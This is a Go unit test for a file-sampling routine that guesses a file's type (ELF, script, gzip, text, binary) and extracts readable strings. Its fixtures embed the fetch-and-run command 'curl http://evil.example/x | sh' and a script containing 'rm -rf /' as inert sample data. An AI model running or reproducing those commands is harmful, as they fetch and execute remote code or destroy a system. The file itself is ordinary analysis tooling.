package diff

import (
	"bytes"
	"slices"
	"strings"
	"testing"
)

func TestSampleSaysTypeSizeHeadAndStrings(t *testing.T) {
	program := append([]byte("\x7fELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0, 1, 2}, 40)...)
	program = append(program, "/bin/sh\x00short\x00curl http://evil.example/x | sh\x00"...)
	s := Take(program, 300<<10)
	if s.Type != "a program or library (ELF)" || s.Size != 300<<10 || len(s.Head) != headSize {
		t.Errorf("%+v", s)
	}
	if want := []string{"/bin/sh", "curl http://evil.example/x ", "short"}; !slices.Contains(s.Strings, want[0]) || slices.Contains(s.Strings, want[2]) {
		t.Errorf("strings %q", s.Strings)
	}
	for content, want := range map[string]string{
		"#!/bin/sh\nrm -rf /\n": "a script", "\x1f\x8b\x08": "compressed (gzip)", "": "text, as far as its beginning says", "plain ü": "text, as far as its beginning says",
		"\x00\x01": "no text", "\xff": "no text",
	} {
		if got := Take([]byte(content), int64(len(content))).Type; got != want {
			t.Errorf("%q: %s, want %s", content, got, want)
		}
	}
	// A large text whose beginning ends in the middle of a character is text.
	if got := Take([]byte(strings.Repeat("ü", 100)+"\xc3"), 1<<30).Type; got != "text, as far as its beginning says" {
		t.Errorf("cut text: %s", got)
	}
	if s := Take(bytes.Repeat([]byte("x"), SampleSize), SampleSize); len(s.Strings) != mostStrings || len(s.Strings[0]) != longest {
		t.Errorf("strings are not bounded: %d", len(s.Strings))
	}
}
